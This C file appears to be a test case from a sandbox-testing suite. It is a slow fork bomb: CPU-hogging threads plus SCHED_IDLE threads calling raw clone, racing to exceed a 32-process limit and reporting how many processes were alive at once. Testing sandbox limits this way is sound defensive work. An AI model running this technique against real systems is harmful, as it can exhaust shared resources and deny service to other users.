// A fork bomb that takes its time: threads that hardly get a processor are told to go on with a fork, and
// the next ones ask before those have made a process.
// class: OS sandboxes: fork bombs
// plain: say
// flags: --processes 32
#include "attack.h"
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>

static atomic_int done, alive;

// Takes the processor from those who fork. Threads are no processes.
static void* hog(void* unused) {
  while (!atomic_load(&done)) {
  }
  return unused;
}

static void* forker(void* unused) {
  const struct sched_param none = {0};
  if (sched_setscheduler(0, SCHED_IDLE, &none) != 0) refused("SCHED_IDLE");
  const pid_t child = (pid_t)syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
  if (child == 0) {
    nap(20000);
    _exit(0);
  }
  if (child > 0) atomic_fetch_add(&alive, 1);
  return unused;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  pthread_attr_t small;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 65536);
  const long cores = sysconf(_SC_NPROCESSORS_ONLN);
  pthread_t hogs[64], forkers[150];
  for (long i = 0; i < cores && i < 64; ++i) pthread_create(&hogs[i], &small, hog, NULL);
  const int n = sizeof forkers / sizeof *forkers;
  for (int i = 0; i < n; ++i)
    if (pthread_create(&forkers[i], &small, forker, NULL) != 0) return 1;
  nap(3000);
  atomic_store(&done, 1);
  for (int i = 0; i < n; ++i) pthread_join(forkers[i], NULL);
  printf("%d alive at once\n", atomic_load(&alive));
  if (atomic_load(&alive) > 31) effect("%d processes at once", atomic_load(&alive));
  return 0;
}
